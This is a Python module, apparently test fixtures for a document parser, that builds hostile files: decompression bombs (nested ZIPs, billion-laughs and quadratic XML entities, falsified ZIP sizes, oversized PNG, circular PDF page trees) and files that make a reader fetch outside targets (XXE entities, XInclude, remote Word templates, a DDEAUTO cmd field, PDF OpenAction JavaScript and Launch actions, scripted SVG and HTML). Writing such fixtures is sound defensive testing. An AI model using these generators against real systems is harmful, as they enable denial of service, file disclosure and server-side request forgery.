"""Files made to harm whoever reads them: bombs, files that ask for others, files of two kinds, damaged and locked ones."""

import gzip
import struct
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from random import Random
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = (
    f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
ROOT = (
    f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="a" Type="{OFFICE}/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
AKN = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def packed(files: dict[str, bytes | str], compress: int = ZIP_DEFLATED) -> bytes:
    written = BytesIO()
    with ZipFile(written, "w", compress) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return written.getvalue()


def word(body: str, **more: bytes | str) -> bytes:
    """A Word file with this body; other parts by their path, `/` written as `__`."""
    document = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    parts = {"[Content_Types].xml": TYPES, "_rels/.rels": ROOT, "word/document.xml": document}
    return packed(parts | {name.replace("__", "/"): content for name, content in more.items()})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def akn(body: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<akomaNtoso xmlns="{AKN}">{body}</akomaNtoso>'.encode()


def pdf(*objects: bytes, more: bytes = b"") -> bytes:
    """A PDF of these objects, the first of which is the catalogue."""
    written, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    written += b"trailer <</Size %d /Root 1 0 R %b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, more, start)
    return bytes(written)


def page(words: bytes = b"1. The board takes note.", catalogue: bytes = b"", *more: bytes) -> bytes:
    """A PDF of one page with these words, and what else is written."""
    content = b"BT /F 11 Tf 72 720 Td (%b) Tj ET" % words
    return pdf(
        b"<</Type /Catalog /Pages 2 0 R %b>>" % catalogue,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <</Font <</F 5 0 R>>>>>>",
        b"<</Length %d>> stream\n%b\nendstream" % (len(content), content),
        b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
        *more,
    )


# Bombs


def zip_in_zip(depth: int = 12) -> bytes:
    inner = b"0" * (8 << 20)
    for level in range(depth):
        inner = packed({f"word/{level}.zip": inner})
    return word(paragraph("1. Text."), word__inner=inner)


def many_paragraphs(count: int = 1_500_000) -> bytes:
    return word(paragraph("1. Text.") * count)


def as_much_as_is_let_in() -> bytes:
    """Just under what an archive may inflate to, with words that hardly pack: the most that a reader ever meets."""
    chance = Random(4)
    text = "".join(chance.choices("abcdefghijklmnopqrstuvwxyz ", k=120))
    return word("".join(paragraph(f"{n}. {text[n % 90 :]}") for n in range(1, 380_000)))


def one_node(size: int = 200 << 20) -> bytes:
    return word(paragraph("a" * size))


def many_copies() -> bytes:
    return word(paragraph("1. Text."), **{f"word__media__{n}": b"\0" * (16 << 20) for n in range(16)})


def huge_picture() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * (1 << 20))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def many_objects(count: int = 1_000_000) -> bytes:
    """Packed into a stream of objects, so that they stand in few bytes."""
    one_page = page()
    filler = b"".join(b"%d 0 obj\nnull\nendobj\n" % number for number in range(10, min(count, 700_000)))
    return one_page.replace(b"xref\n", filler + b"xref\n", 1)


def swollen_page() -> bytes:
    content = zlib.compress(b"BT /F 11 Tf (words) Tj ET\n" * 12_000_000, 9)
    content = zlib.compress(content, 9)
    return pdf(
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <<>>>>",
        b"<</Length %d /Filter [/FlateDecode /FlateDecode]>> stream\n%b\nendstream" % (len(content), content),
    )


def pages_in_a_circle() -> bytes:
    return pdf(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 100000000>>")


def wide_table(rows: int = 1_000_000, columns: int = 100) -> bytes:
    """A workbook of so many cells, as far as 20 MiB hold them."""
    row = "<row>" + '<c t="inlineStr"><is><t>a</t></is></c>' * columns + "</row>"
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{row * (rows // 100)}</sheetData></worksheet>'
    book = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="s"/></sheets></workbook>'
    )
    return packed(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": ROOT.replace("word/document", "xl/workbook"),
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": ROOT.replace('"a"', '"s"').replace("word/document", "worksheets/sheet1"),
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def laughs() -> bytes:
    return akn("<doc><p>&l9;</p></doc>", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>')


def quadratic() -> bytes:
    return akn(f"<doc><p>{'&a;' * 50_000}</p></doc>", f'<!DOCTYPE a [<!ENTITY a "{"a" * 50_000}">]>')


def false_sizes() -> bytes:
    """The directory says that a part has ten bytes; it has 100 MiB."""
    whole = bytearray(word(paragraph("a" * (100 << 20))))
    at = whole.rfind(b"PK\x01\x02", 0, whole.rfind(b"PK\x01\x02"))
    while at >= 0:
        struct.pack_into("<I", whole, at + 24, 10)
        at = whole.rfind(b"PK\x01\x02", 0, at)
    return bytes(whole)


def many_members(count: int = 100_000) -> bytes:
    written = BytesIO(word(paragraph("1. Text.")))
    with ZipFile(written, "a") as archive:
        for number in range(count):
            archive.writestr(ZipInfo(f"word/{number}"), b"")
    return written.getvalue()


def gz_in_zip() -> bytes:
    return word(paragraph("1. Text."), word__media__a=gzip.compress(bytes(128 << 20), 9))


def deep_akn(depth: int = 200_000) -> bytes:
    return akn("<doc>" + "<hcontainer>" * depth + "</hcontainer>" * depth + "</doc>")


BOMBS: dict[str, Callable[[], bytes]] = {
    "zip in zip": zip_in_zip,
    "1.5 million paragraphs": many_paragraphs,
    "as much as is let in": as_much_as_is_let_in,
    "a node of 200 MiB": one_node,
    "copies of one part": many_copies,
    "a huge picture": lambda: word(paragraph("1. Text."), word__media__image1=huge_picture()),
    "a million objects": many_objects,
    "a page that swells": swollen_page,
    "pages in a circle": pages_in_a_circle,
    "nested entities": laughs,
    "one entity many times": quadratic,
    "false sizes": false_sizes,
    "100,000 members": many_members,
    "gz in zip": gz_in_zip,
    "elements 200,000 deep": deep_akn,
    "a line of 19 MiB": lambda: b"1. " + b"word " * (19 << 18),
    "two million lines": lambda: b"1. a\n(b) c\n" * 1_700_000,
    "open brackets": lambda: b"([{*_" * (3 << 20),
}


# Files that ask for what is outside


def asking(target: str) -> Iterator[tuple[str, bytes]]:
    """Files of every kind that would make a careless reader open `target` (an address or a file)."""
    yield "entity in akn", akn("<doc><p>&x;</p></doc>", f'<!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]>')
    yield "external subset in akn", akn("<doc><p>a</p></doc>", f'<!DOCTYPE a SYSTEM "{target}">')
    yield "parameter entity in akn", akn("<doc/>", f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{target}"> %x;]>')
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
    yield "xinclude in akn", akn(f"<doc><body>{include}</body></doc>")
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{AKN} {target}"'
    yield "schema in akn", akn(f"<doc {schema}><p>a</p></doc>")
    yield "stylesheet in akn", akn("<doc><p>a</p></doc>", f'<?xml-stylesheet type="text/xsl" href="{target}"?>')
    yield "xinclude in word", word(paragraph("1. Text.") + include)
    doctype = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]><w:styles xmlns:w="{W}">&x;</w:styles>'
    yield "entity in word", word(paragraph("1. Text."), word__styles=doctype)
    link = f'<Relationship Id="t" Type="{OFFICE}/{{}}" Target="{target}" TargetMode="External"/>'
    links = "".join(link.format(kind) for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument"))
    relations = f'<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>'
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="t"/></w:settings>'
    yield (
        "remote template",
        word(
            paragraph("1. Text."),
            **{"word/_rels/document.xml.rels": relations, "word/settings.xml": settings},
        ),
    )
    field = (
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{target}&quot;"><w:r><w:t>1. T.</w:t></w:r></w:fldSimple></w:p>'
    )
    yield "field in word", word(field + field.replace("INCLUDETEXT", "DDEAUTO cmd"))
    into = target.encode()
    script = b"/OpenAction <</S /JavaScript /JS (app.launchURL('%b'))>>" % into
    yield "javascript in pdf", page(catalogue=script)
    yield "launch in pdf", page(catalogue=b"/OpenAction <</S /Launch /F (%b)>>" % into)
    yield "address in pdf", page(catalogue=b"/OpenAction <</S /URI /URI (%b)>>" % into)
    yield "remote file in pdf", page(catalogue=b"/OpenAction <</S /GoToR /F <</FS /URL /F (%b)>>>>" % into)
    yield "xfa in pdf", page(catalogue=b"/AcroForm <</XFA 6 0 R>>")
    yield (
        "svg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{target}"/><script>alert(1)</script></svg>'.encode(),
    )
    yield "html", f'<!doctype html><title>a</title><img src="{target}"><script src="{target}"></script>'.encode()
